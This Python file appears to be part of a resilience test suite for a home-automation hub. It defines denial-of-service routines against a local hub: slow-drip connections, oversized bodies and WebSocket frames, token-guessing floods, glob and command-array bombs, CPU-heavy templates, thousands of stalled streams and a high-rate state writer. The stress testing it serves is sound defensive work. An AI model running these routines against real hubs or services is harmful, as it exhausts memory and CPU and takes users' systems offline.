# SPDX-License-Identifier: Apache-2.0
"""Attacks on a hub's memory or time, by clients without a token and users of few rights. Each runs until `over`, in a process
of its own; it does not matter whether the hub refuses what it sends."""

import json
import resource
import secrets
import socket
import threading
import time

import client
import watch

MIB = 1 << 20


def until(over, step, pause=0.0):
    """Repeats a step; if the hub refuses or closes the connection, tries again a little later."""
    while not over.is_set():
        try:
            step()
        except (OSError, ValueError, IndexError):
            time.sleep(0.02)
        if pause:
            over.wait(pause)


def at_once(count, run):
    threads = [threading.Thread(target=run, args=(number,), daemon=True) for number in range(count)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(30)


def hold(over, count, head, size):
    """`count` connections that send a head and all except ten bytes of the rest, then a byte a second. Closed ones are opened
    again."""
    block = b"a" * min(size, MIB)

    def one(_):
        def step():
            with socket.create_connection(("127.0.0.1", PORT), timeout=5) as connection:
                connection.sendall(head)
                left = size - 10
                while left > 0 and not over.is_set():
                    connection.sendall(block[: min(left, len(block))])
                    left -= len(block)
                while not over.is_set():
                    over.wait(1)
                    connection.sendall(b"a")

        until(over, step)

    at_once(count, one)


def bodies(over, home):
    """60 connections with a body of 16 MiB for an open endpoint, and 140 with one of 64 KiB."""
    def head(size):
        return client.request_text("POST", "/auth/token", {"Content-Length": size})

    large = threading.Thread(target=hold, args=(over, 60, head(16 * MIB), 16 * MIB), daemon=True)
    large.start()
    hold(over, 140, head(64 << 10), 64 << 10)
    large.join(30)


def sockets(over, home):
    """100 WebSockets that have not authenticated, with a message of 4 MiB, and 100 with one of 16 KiB."""
    upgrade = client.request_text("GET", "/api/websocket", {"Upgrade": "websocket", "Connection": "Upgrade", "Sec-WebSocket-Version": "13",
                                                            "Sec-WebSocket-Key": "dGhlIHNhbXBsZSBub25jZQ=="})

    def head(size):
        return upgrade + b"\x81\xff" + size.to_bytes(8, "big") + bytes(4)

    large = threading.Thread(target=hold, args=(over, 100, head(4 * MIB), 4 * MIB), daemon=True)
    large.start()
    hold(over, 100, head(16 << 10), 16 << 10)
    large.join(30)


def garbage(over, home):
    """80 connections that ask for tokens with invented refresh tokens."""
    def one(_):
        def step():
            with client.Connection(PORT) as connection:
                while not over.is_set():
                    form = f"grant_type=refresh_token&client_id=http://a/&refresh_token={secrets.token_urlsafe(32)}"
                    connection.ask(client.request_text("POST", "/auth/token", {"Content-Type": "application/x-www-form-urlencoded"}, form))

        until(over, step)

    at_once(80, one)


def large_frame(text):
    return b"\x81\xff" + len(text).to_bytes(8, "big") + bytes(4) + text.encode()


def send_and_read(home, text, seconds=2):
    """A reader's WebSocket that sends one message and then reads for a while."""
    user = client.WebSocket(PORT, home["reader"])
    try:
        user.socket.sendall(large_frame(text))
        user.socket.settimeout(0.2)
        end = time.monotonic() + seconds
        while time.monotonic() < end:
            try:
                if not user.socket.recv(MIB):
                    break
            except TimeoutError:
                pass
    finally:
        user.socket.close()


def globs(over, home):
    """A reader subscribes with 100,000 patterns, and another with as many as are allowed, again and again."""
    def message(count):
        include = {"entity_globs": [f"*a*a*a*a*ab{number}" for number in range(count)]}
        return json.dumps({"id": 1, "type": "subscribe_entities", "include": include})

    messages = [message(100_000), message(100)]
    at_once(2, lambda number: until(over, lambda: send_and_read(home, messages[number])))


def arrays(over, home):
    """A reader sends 20,000 commands in one message, repeatedly."""
    message = json.dumps([{"id": number, "type": "get_services"} for number in range(1, 20_001)])
    until(over, lambda: send_and_read(home, message))


def subscriptions(over, home):
    """A user's two sockets with 1,000 filtered subscriptions each, and a change of 120 kB every second."""
    def one(_):
        def step():
            user = client.WebSocket(PORT, home["user"])
            user.socket.settimeout(1)
            try:
                for number in range(1, 1_001):
                    user.socket.sendall(client.text_frame(json.dumps(
                        {"id": number, "type": "subscribe_entities", "entity_ids": ["sensor.large"]})))
                while not over.is_set():
                    try:
                        if not user.socket.recv(MIB):
                            break
                    except TimeoutError:
                        pass
            finally:
                user.socket.close()

        until(over, step)

    listeners = threading.Thread(target=at_once, args=(2, one), daemon=True)
    listeners.start()

    def change():
        body = json.dumps({"state": secrets.token_hex(4), "attributes": {secrets.token_hex(4): "a" * 100 for _ in range(1_000)}})
        client.request(PORT, "POST", "/api/states/sensor.large", {"Authorization": "Bearer " + home["user"]}, body)

    until(over, change, pause=1)
    listeners.join(30)


def logbook(over, home):
    """A user asks eight times at once for the logbook of a day of 500 entities."""
    start = time.strftime("%Y-%m-%dT%H:%M:%S", time.gmtime(time.time() - 86_000)) + "%2B00:00"
    text = client.request_text("GET", f"/api/logbook/{start}", {"Authorization": "Bearer " + home["user"]})

    def one(_):
        def step():
            with client.Connection(PORT) as connection:
                connection.socket.sendall(text)
                connection.socket.settimeout(1)
                while not over.is_set():
                    try:
                        if not (read := connection.socket.recv(MIB)) or read.endswith(b"\r\n0\r\n\r\n"):
                            return
                    except TimeoutError:
                        pass

        until(over, step)

    at_once(8, one)


def keep_open(over, count, connect, step, pause):
    """`count` connections, each made by `connect`; every `pause` seconds `step` has its turn with each. Closed ones are made
    again. One thread."""
    connections = {}
    while not over.is_set():
        for number in range(count):
            if over.is_set():
                return
            try:
                if number not in connections:
                    connections[number] = connect()
                step(connections[number])
            except BlockingIOError:
                pass
            except (OSError, ValueError, IndexError):
                if number in connections:
                    connections.pop(number).close()
        over.wait(pause)


def slow(over, home):
    """2,000 connections that send the head of a request, a byte a second."""
    head = client.request_text("POST", "/api/states/sensor.slow", {"Authorization": "Bearer " + home["user"]}, "x" * 4000)
    sent = {}

    def step(connection):
        at = sent.get(connection, 0)
        connection.sendall(head[at:at + 1])
        sent[connection] = at + 1

    keep_open(over, 2_000, lambda: socket.create_connection(("127.0.0.1", PORT), timeout=5), step, 1)


def opened_stream(home):
    connection = socket.create_connection(("127.0.0.1", PORT), timeout=5)
    connection.sendall(client.request_text("GET", "/api/stream", {"Authorization": "Bearer " + home["user"]}))
    connection.recv(1 << 16)
    connection.setblocking(False)
    return connection


def idle(over, home):
    """5,000 event streams whose clients read what comes."""
    def step(connection):
        while connection.recv(1 << 16):
            pass

    keep_open(over, 5_000, lambda: opened_stream(home), step, 0.2)


def stopped(over, home):
    """20 event streams and 20 WebSockets with all states, whose clients never read, while a large state changes."""
    def connect():
        user = client.WebSocket(PORT, home["user"])
        user.socket.sendall(client.text_frame('{"id":1,"type":"subscribe_events"}'))
        return user.socket

    streams = threading.Thread(target=keep_open, args=(over, 20, lambda: opened_stream(home), lambda _: None, 0.5), daemon=True)
    streams.start()

    def change():
        body = json.dumps({"state": secrets.token_hex(4), "attributes": {"a": secrets.token_hex(30_000)}})
        client.request(PORT, "POST", "/api/states/sensor.large", {"Authorization": "Bearer " + home["user"]}, body)

    changing = threading.Thread(target=until, args=(over, change, 0.05), daemon=True)
    changing.start()
    keep_open(over, 20, connect, lambda _: None, 0.5)
    streams.join(30)
    changing.join(30)


# Depend on a state that changes, and take about as many steps as a limited template may.
HEAVY = ["{% for i in range(20000) %}{% if loop.last %}{{ states('sensor.steady') }}{% endif %}{% endfor %}",
         "{{ states('sensor.steady') }}{{ range(30000) | map('string') | sort | unique | join(',') | length }}",
         "{{ states('sensor.steady') }}{{ ('ab' * 60000) | regex_findall('a') | count }}",
         "{{ states('sensor.steady') }}{% for s in states %}{{ s.name | slugify }}{% endfor %}"]


def subscribed(home, commands):
    user = client.WebSocket(PORT, home["reader"])
    for number, command in enumerate(commands, 1):
        user.socket.sendall(client.text_frame(json.dumps({"id": number, **command})))
    user.socket.setblocking(False)
    return user.socket


def read_all(connection):
    while connection.recv(1 << 16):
        pass


def crowd(over, home):
    """200 WebSockets with ten subscriptions and four templates each."""
    commands = [{"type": "subscribe_entities"}] * 2 + [{"type": "subscribe_entities", "entity_ids": ["sensor.steady"]}] * 4
    commands += [{"type": "subscribe_events", "event_type": "state_changed"}] * 4
    commands += [{"type": "render_template", "template": f"{{# {number} #}}{{{{ states('sensor.steady') }}}} {{{{ states | count }}}}"}
                 for number in range(4)]
    keep_open(over, 200, lambda: subscribed(home, commands), read_all, 0.05)


def heavy(over, home):
    """40 readers' WebSockets with four templates each that take as long as they may, at each change of a state."""
    commands = [{"type": "render_template", "template": template} for template in HEAVY]
    keep_open(over, 40, lambda: subscribed(home, commands), read_all, 0.05)


def writer(over, home):
    """A user sets states 5,000 times a second, as evenly as a program can."""
    rate, every = 5_000, 0.01
    texts = [client.request_text("POST", f"/api/states/sensor.written_{number}", {"Authorization": "Bearer " + home["user"]},
                                 json.dumps({"state": secrets.token_hex(4)})) for number in range(1_000)]

    def step():
        with client.Connection(PORT) as connection:
            connection.socket.settimeout(5)
            begin, sent, answered, rest = time.monotonic(), 0, 0, b""
            while not over.is_set():
                due = int((time.monotonic() - begin) * rate) - sent
                connection.socket.sendall(b"".join(texts[number % len(texts)] for number in range(sent, sent + due)))
                sent += due
                while answered < sent:
                    if not (read := connection.socket.recv(MIB)):
                        return
                    answered += (rest + read).count(b"HTTP/1.1 ")
                    rest = (rest + read)[-8:]
                over.wait(every)

    until(over, step)


ATTACKS = {"bodies": bodies, "sockets": sockets, "garbage": garbage, "globs": globs, "arrays": arrays, "subscriptions": subscriptions,
           "logbook": logbook, "slow": slow, "idle": idle, "stopped": stopped, "crowd": crowd, "heavy": heavy,
           "writer": writer}
PORT = 0


def run(name, port, home, over):
    global PORT
    PORT = port
    watch.step_aside()
    _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    ATTACKS[name](over, home)
